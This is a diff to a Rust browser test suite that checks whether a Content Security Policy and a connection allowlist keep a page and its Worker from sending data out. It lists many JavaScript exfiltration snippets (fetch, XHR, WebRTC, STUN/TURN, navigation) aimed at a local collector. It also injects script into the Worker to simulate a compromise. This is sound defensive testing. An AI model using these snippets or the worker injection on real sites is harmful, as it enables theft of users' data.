@@ -6,15 +6,15 @@ use std::time::Duration;
 
 use anyhow::{Context as _, Result};
 use axum::http::{HeaderValue, StatusCode};
-use e2e::browser::Browser;
-use e2e::devtools::{DevTools, Session};
+use e2e::browser::{Browser, Chromium, Kind};
+use e2e::devtools::DevTools;
 use e2e::proxy::{Answer, Asked, Proxy, Seen, Tamper, without};
 use e2e::server::Server;
 use e2e::sink::Sink;
 use e2e::wait::{until, within};
 use serde_json::{Value, json};
 
-use crate::altered::{altered, is_page, without_policy, without_protection};
+use crate::altered::{Rebuilt, altered, is_page, without_policy, without_protection};
 
 /// Takes what it is given, and permits everything that a server can permit.
 struct Collector;
@@ -42,14 +42,26 @@ enum Stop {
     Policy(&'static str),
     /// Trusted Types, at this sink: the string never becomes a script or its address.
     Types(&'static str),
+    /// The policy, which does not report it.
+    Mute,
     /// The list of connections alone: no policy covers it, and nothing is reported.
     List,
 }
 
-use Stop::{List, Policy, Types};
+use Stop::{List, Mute, Policy, Types};
+
+/// A name, what stops it, and a script.
+type Way = (&'static str, Stop, &'static str);
+
+in_both!(
+    t082_the_page_can_carry_nothing_out,
+    t082_nor_can_the_page_of_the_phone,
+    t082_nor_can_the_worker,
+    t082_leaving_is_not_stopped_in_every_case,
+);
 
 /// Every way out that a page has, short of leaving, each with its own path at the collector `C`, or a port of its own.
-const OF_PAGE: &[(&str, Stop, &str)] = &[
+const OF_PAGE: &[Way] = &[
     ("fetch", Policy("connect-src"), "await fetch(C + '/fetch', { mode: 'no-cors' })"),
     ("post", Policy("connect-src"), "await fetch(C + '/post', { method: 'POST', body: 'x', mode: 'no-cors' })"),
     ("xhr", Policy("connect-src"), "const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.send()"),
@@ -84,7 +96,7 @@ const OF_PAGE: &[(&str, Stop, &str)] = &[
 ];
 
 /// The same from inside the Worker.
-const OF_WORKER: &[(&str, Stop, &str)] = &[
+const OF_WORKER: &[Way] = &[
     ("fetch", Policy("connect-src"), "await fetch(C + '/fetch', { mode: 'no-cors' })"),
     ("post", Policy("connect-src"), "await fetch(C + '/post', { method: 'POST', body: 'x', mode: 'no-cors' })"),
     ("xhr", Policy("connect-src"), "const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.send()"),
@@ -109,16 +121,21 @@ impl Outside {
         Ok(Self { web, quic: Sink::udp().await?, stun: Sink::udp().await?, turn: Sink::tcp().await? })
     }
 
-    /// A script that tries one way out, in a timer, because what DevTools evaluates is bound less. Whatever is thrown is a
-    /// way out that is shut.
-    fn attempt(&self, script: &str) -> String {
-        let addresses = format!(
+    /// The addresses of everybody who listens, for a script.
+    fn addresses(&self) -> String {
+        format!(
             "const C = {}, QUIC = {}, STUN = {}, TURN = {};",
             json!(self.web.url()),
             json!(self.quic.address()),
             json!(self.stun.address()),
             json!(self.turn.address()),
-        );
+        )
+    }
+
+    /// A script that tries one way out, in a timer, because what a driver runs is bound less. Whatever is thrown is a way
+    /// out that is shut.
+    fn attempt(&self, script: &str) -> String {
+        let addresses = self.addresses();
         format!(
             "setTimeout(async () => {{ {addresses} \
              const add = (tag, set) => {{ const e = Object.assign(document.createElement(tag), set); document.body.append(e); return e }}; \
@@ -126,6 +143,18 @@ impl Outside {
                p.createDataChannel('out'); await p.setLocalDescription(await p.createOffer()) }}; \
              try {{ {script} }} catch {{}} done(true) }})"
         )
+    }
+
+    /// The page's Worker with script that got in: the page asks it, by a channel, to try one of the ways. What is
+    /// shut does not end it.
+    fn invaded(&self) -> Result<Rebuilt> {
+        let ways = OF_WORKER.iter().map(|(name, _, script)| format!("{name}: async () => {{ {script} }},"));
+        let (ways, addresses): (String, _) = (ways.collect(), self.addresses());
+        let script = format!(
+            "\n{{ self.onunhandledrejection = null; {addresses} {WATCH}; const ways = {{ {ways} }}; const page = new BroadcastChannel('ways'); \
+             page.onmessage = async ({{ data }}) => {{ try {{ await ways[data]?.() }} catch {{}} page.postMessage(self.violations) }} }}"
+        );
+        Rebuilt::new("worker-", |worker| [worker, script.into_bytes()].concat())
     }
 
     /// Names of the ways by which something came.
@@ -168,37 +197,74 @@ impl Outside {
 const WATCH: &str = "self.violations = []; addEventListener('securitypolicyviolation', \
     e => violations.push([e.effectiveDirective, e.blockedURI, e.sample]))";
 
+/// What stops a way out of a page in Firefox, where that is something else; `None` is a way that it does not have.
+const OF_PAGE_IN_FIREFOX: &[(&str, Option<Stop>)] =
+    &[("preload", Some(Mute)), ("object", Some(Policy("object-src"))), ("speculation", None)];
+
+/// The same of a Worker.
+const OF_WORKER_IN_FIREFOX: &[(&str, Option<Stop>)] =
+    &[("event", Some(Mute)), ("quic", Some(Mute)), ("font", Some(Mute))];
+
+/// The ways out that this browser has, with what stops each there.
+fn of_page(kind: Kind) -> Vec<Way> {
+    match kind {
+        Kind::Chromium => OF_PAGE.to_vec(),
+        Kind::Firefox => otherwise(OF_PAGE, OF_PAGE_IN_FIREFOX),
+    }
+}
+
+fn of_worker(kind: Kind) -> Vec<Way> {
+    match kind {
+        Kind::Chromium => OF_WORKER.to_vec(),
+        Kind::Firefox => otherwise(OF_WORKER, OF_WORKER_IN_FIREFOX),
+    }
+}
+
+fn otherwise(ways: &[Way], other: &[(&str, Option<Stop>)]) -> Vec<Way> {
+    let in_it = |&(name, stop, script): &Way| {
+        let found = other.iter().find(|(each, _)| *each == name);
+        Some((name, found.map_or(Some(stop), |(_, stop)| *stop)?, script))
+    };
+    ways.iter().filter_map(in_it).collect()
+}
+
 async fn try_page(browser: &Browser, outside: &Outside) -> Result<Vec<Value>> {
     browser.run(WATCH).await?;
-    for (name, _, script) in OF_PAGE {
-        browser.run_async(&outside.attempt(script)).await.context(*name)?;
+    for (name, _, script) in of_page(browser.kind()) {
+        browser.run_async(&outside.attempt(script)).await.context(name)?;
     }
+    // A window may have come up before it, and behind another one a page's timers are slow.
+    browser.driver.switch_to_window(browser.driver.window().await?).await?;
     browser.run("return violations").await?.as_array().cloned().context("violations")
 }
 
-async fn try_worker(tools: &mut DevTools, worker: &Session, outside: &Outside) -> Result<Vec<Value>> {
-    tools.evaluate(worker, WATCH).await?;
-    for (name, _, script) in OF_WORKER {
-        let script = format!("new Promise(done => {})", outside.attempt(script));
-        tools.evaluate(worker, &script).await.context(*name)?;
+/// Asks the Worker to try one way after the other; the name of none makes it tell what was shut.
+async fn try_worker(browser: &Browser) -> Result<Vec<Value>> {
+    let mut violations = Value::Null;
+    for name in OF_WORKER.iter().map(|(name, ..)| *name).chain(["none"]) {
+        let script = format!(
+            "const c = new BroadcastChannel('ways'); c.onmessage = ({{ data }}) => {{ c.close(); done(data) }}; c.postMessage({})",
+            json!(name)
+        );
+        violations = browser.run_async(&script).await.context(name)?;
     }
-    tools.evaluate(worker, "violations").await?.as_array().cloned().context("violations")
+    violations.as_array().cloned().context("violations")
 }
 
-fn names(ways: &[(&str, Stop, &str)], keep: impl Fn(Stop) -> bool) -> BTreeSet<String> {
+fn names(ways: &[Way], keep: impl Fn(Stop) -> bool) -> BTreeSet<String> {
     ways.iter().filter(|(_, stop, _)| keep(*stop)).map(|(name, ..)| (*name).to_owned()).collect()
 }
 
 /// Each way was shut by what the table says: the browser reported it.
-fn reported(ways: &[(&str, Stop, &str)], violations: &[Value]) {
+fn reported(ways: &[Way], violations: &[Value]) {
     let text = |each: &Value, at: usize| each[at].as_str().unwrap_or_default().to_owned();
     for (name, stop, _) in ways {
         let fits = |each: &&Value| match stop {
-            // Of a frame the browser tells the origin alone.
-            Policy(directive @ "frame-src") => text(each, 0) == *directive,
+            // Of these the browser tells the origin alone.
+            Policy(directive @ ("frame-src" | "object-src")) => text(each, 0) == *directive,
             Policy(directive) => text(each, 0) == *directive && text(each, 1).ends_with(&format!("/{name}")),
             Types(sink) => text(each, 0) == "require-trusted-types-for" && text(each, 2).starts_with(sink),
-            List => true,
+            Mute | List => true,
         };
         assert!(violations.iter().any(|each| fits(&each)), "{name} by {stop:?}: {violations:#?}");
     }
@@ -206,6 +272,11 @@ fn reported(ways: &[(&str, Stop, &str)], violations: &[Value]) {
 
 /// The real page with one of its two walls, both or none.
 async fn walled(server: &Server, policy: bool, list: bool) -> Result<Proxy> {
+    walled_with(server, policy, list, None).await
+}
+
+/// The same, with a Worker that somebody else made.
+async fn walled_with(server: &Server, policy: bool, list: bool, worker: Option<Rebuilt>) -> Result<Proxy> {
     altered(server, move |asked, mut answer| {
         if is_page(asked) {
             match (policy, list) {
@@ -217,37 +288,39 @@ async fn walled(server: &Server, policy: bool, list: bool) -> Result<Proxy> {
                 without(&mut answer, "connection-allowlist");
             }
         }
+        if let Some(worker) = &worker {
+            worker.put(asked, &mut answer);
+        }
         Some(answer)
     })
     .await
 }
 
-async fn begin() -> Result<(Server, Browser)> {
-    let browser = Browser::with(&["--headless=new", "--window-size=1280,900", "--allow-loopback-in-peer-connection"]);
-    tokio::try_join!(Server::start(), browser)
+async fn begin(kind: Kind) -> Result<(Server, Browser)> {
+    tokio::try_join!(Server::start(), Browser::unguarded(kind))
 }
 
-#[tokio::test]
-async fn t082_the_page_can_carry_nothing_out() -> Result<()> {
-    page_carries_nothing_out("", "enter").await
+/// The four pages: with or without the policy, with or without the list of connections; and whether each holds. Firefox does
+/// not know the list.
+fn walls(kind: Kind) -> impl Iterator<Item = (bool, bool, bool)> {
+    let pages = [(false, false), (true, false), (false, true), (true, true)];
+    pages.into_iter().map(move |(policy, list)| (policy, list, list && kind == Kind::Chromium))
 }
 
-#[tokio::test]
-async fn t082_nor_can_the_page_of_the_phone() -> Result<()> {
-    page_carries_nothing_out("/device", "start").await
+async fn t082_the_page_can_carry_nothing_out(kind: Kind) -> Result<()> {
+    page_carries_nothing_out(kind, "", "enter").await
 }
 
-async fn page_carries_nothing_out(path: &str, first: &str) -> Result<()> {
-    let (server, browser) = begin().await?;
-    for (policy, list, arrives) in [
-        // Control: without protection every way is open, and each is seen outside.
-        (false, false, names(OF_PAGE, |_| true)),
-        // The policy alone, as in a browser that does not know the list: these it does not stop, and the threat model says so.
-        (true, false, names(OF_PAGE, |stop| stop == List)),
-        // The list alone stops all of it.
-        (false, true, BTreeSet::new()),
-        (true, true, BTreeSet::new()),
-    ] {
+async fn t082_nor_can_the_page_of_the_phone(kind: Kind) -> Result<()> {
+    page_carries_nothing_out(kind, "/device", "start").await
+}
+
+async fn page_carries_nothing_out(kind: Kind, path: &str, first: &str) -> Result<()> {
+    let (server, browser) = begin(kind).await?;
+    for (policy, list, holds) in walls(kind) {
+        // Control: without protection every way is open, and each is seen outside. The policy alone stops all but some, and
+        // the threat model says so; the list alone stops all of it.
+        let arrives = names(&of_page(kind), |stop| !holds && (!policy || stop == List));
         let page = walled(&server, policy, list).await?;
         let outside = Outside::new().await?;
         browser.go(&format!("{}{path}", page.url())).await?;
@@ -255,7 +328,7 @@ async fn page_carries_nothing_out(path: &str, first: &str) -> Result<()> {
         let violations = try_page(&browser, &outside).await?;
         outside.gets_only(&arrives).await.with_context(|| format!("policy {policy}, list {list}"))?;
         if policy {
-            reported(OF_PAGE, &violations);
+            reported(&of_page(kind), &violations);
         }
         // The page is still there and answers.
         browser.screen(first).await?;
@@ -263,59 +336,59 @@ async fn page_carries_nothing_out(path: &str, first: &str) -> Result<()> {
     Ok(())
 }
 
-#[tokio::test]
-async fn t082_nor_can_the_worker() -> Result<()> {
-    worker_carries_nothing_out("", "enter").await
-}
-
-#[tokio::test]
-async fn t082_nor_can_the_worker_of_the_phone() -> Result<()> {
-    worker_carries_nothing_out("/device", "start").await
-}
-
-async fn worker_carries_nothing_out(path: &str, first: &str) -> Result<()> {
-    let (server, browser) = begin().await?;
-    for (policy, list, arrives) in [
-        (false, false, names(OF_WORKER, |_| true)),
-        (true, false, BTreeSet::new()),
-        (false, true, BTreeSet::new()),
-        (true, true, BTreeSet::new()),
-    ] {
-        let page = walled(&server, policy, list).await?;
+async fn t082_nor_can_the_worker(kind: Kind) -> Result<()> {
+    let (server, browser) = begin(kind).await?;
+    for (policy, list, holds) in walls(kind) {
+        let arrives = names(&of_worker(kind), |_| !policy && !holds);
         let outside = Outside::new().await?;
-        browser.go(&format!("{}{path}", page.url())).await?;
-        browser.screen(first).await?;
-        let mut tools = browser.devtools().await?;
-        let session = tools.page().await?;
-        let worker = tools.worker(&session).await?;
-        let violations = try_worker(&mut tools, &worker, &outside).await?;
+        let worker = outside.invaded()?;
+        let page = walled_with(&server, policy, list, Some(worker)).await?;
+        browser.go(&page.url()).await?;
+        browser.screen("enter").await?;
+        let violations = try_worker(&browser).await?;
         outside.gets_only(&arrives).await.with_context(|| format!("policy {policy}, list {list}"))?;
         if policy {
-            reported(OF_WORKER, &violations);
+            reported(&of_worker(kind), &violations);
         }
     }
     Ok(())
 }
 
-#[tokio::test]
-async fn t082_leaving_is_not_stopped_in_every_case() -> Result<()> {
-    let (server, browser) = begin().await?;
-    for (list, by_driver, leaves) in [
-        // Control: without the list, script leaves when it likes.
-        (false, false, true),
-        (true, false, false),
-        // Not stopped, and the threat model says so: the same line, run by WebDriver.
-        (true, true, true),
-    ] {
-        let page = walled(&server, true, list).await?;
-        let outside = Outside::new().await?;
-        browser.go(&page.url()).await?;
-        browser.screen("enter").await?;
-        let leave = outside.attempt("location.href = C + '/leave'");
-        if by_driver {
+async fn t082_leaving_is_not_stopped_in_every_case(kind: Kind) -> Result<()> {
+    let server = Server::start().await?;
+    match kind {
+        Kind::Chromium => {
+            let browser = Chromium::start().await?;
+            for (list, by_driver, leaves) in [
+                // Control: without the list, script leaves when it likes.
+                (false, false, true),
+                (true, false, false),
+                // Not stopped, and the threat model says so: the same line, run by WebDriver.
+                (true, true, true),
+            ] {
+                let tools = if by_driver { None } else { Some(browser.devtools().await?) };
+                leaving(&server, &browser, list, tools, leaves).await?;
+            }
+            Ok(())
+        }
+        // It does not know the list: script leaves when it likes.
+        Kind::Firefox => leaving(&server, &Browser::start(kind).await?, true, None, true).await,
+    }
+}
+
+/// Script takes the page to another address, run by WebDriver or, where they are there, by DevTools.
+async fn leaving(server: &Server, browser: &Browser, list: bool, tools: Option<DevTools>, leaves: bool) -> Result<()> {
+    let page = walled(server, true, list).await?;
+    let outside = Outside::new().await?;
+    browser.go(&page.url()).await?;
+    browser.screen("enter").await?;
+    let leave = outside.attempt("location.href = C + '/leave'");
+    let by = if tools.is_some() { "DevTools" } else { "WebDriver" };
+    match tools {
+        None => {
             browser.run_async(&leave).await?;
-        } else {
-            let mut tools = browser.devtools().await?;
+        }
+        Some(mut tools) => {
             let session = tools.page().await?;
             // What WebDriver ran counts as a person's touch, for some seconds.
             let mut active = json!(true);
@@ -324,8 +397,7 @@ async fn t082_leaving_is_not_stopped_in_every_case() -> Result<()> {
             }
             tools.evaluate(&session, &format!("{{ const done = () => 0; {leave} }} 0")).await?;
         }
-        let expected = if leaves { BTreeSet::from(["leave".to_owned()]) } else { BTreeSet::new() };
-        outside.gets_only(&expected).await.with_context(|| format!("list {list}, by WebDriver {by_driver}"))?;
     }
-    Ok(())
+    let expected = if leaves { BTreeSet::from(["leave".to_owned()]) } else { BTreeSet::new() };
+    outside.gets_only(&expected).await.with_context(|| format!("list {list}, by {by}"))
 }
